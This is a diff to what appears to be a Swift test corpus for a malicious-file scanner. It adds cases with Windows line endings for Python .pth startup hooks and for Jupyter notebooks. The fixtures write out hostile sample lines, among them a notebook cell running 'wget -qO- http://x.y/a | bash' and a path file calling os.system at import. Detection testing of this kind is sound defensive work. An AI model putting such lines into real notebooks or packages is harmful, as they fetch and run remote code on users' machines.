@@ -64,6 +64,8 @@ extension Corpus {
     text("a file that Python starts with", .startupHook, "sitecustomize.py", "x = 1\n"),
     text("a path file that imports", .startupHook, "a.pth", "import os; os.system('id')\n"),
     text(
+      "a path file with Windows' line ends", .startupHook, "b.pth", "x\r\nimport os\r\n"),
+    text(
       "a set-up that runs a program", .pythonAtLoad, "setup.py",
       "import os\nfrom setuptools import setup\nos.system('id')\nsetup(name='a')\n"),
     text(
@@ -85,6 +87,10 @@ extension Corpus {
     text(
       "a notebook with a command", .shellPayload, "b.ipynb",
       #"{"cells": [{"cell_type": "code", "source": ["!wget -qO- http://x.y/a | bash\n"]}], "#
+        + #""nbformat": 4, "nbformat_minor": 5, "metadata": {}}"#),
+    text(
+      "a command below Python, with Windows' line ends", .shellPayload, "d.ipynb",
+      #"{"cells": [{"cell_type": "code", "source": ["x = 1\r\n!wget -qO- http://x.y/a | bash"]}], "#
         + #""nbformat": 4, "nbformat_minor": 5, "metadata": {}}"#),
     text(
       "PowerShell that is encoded", .shellPayload, "a.ps1",
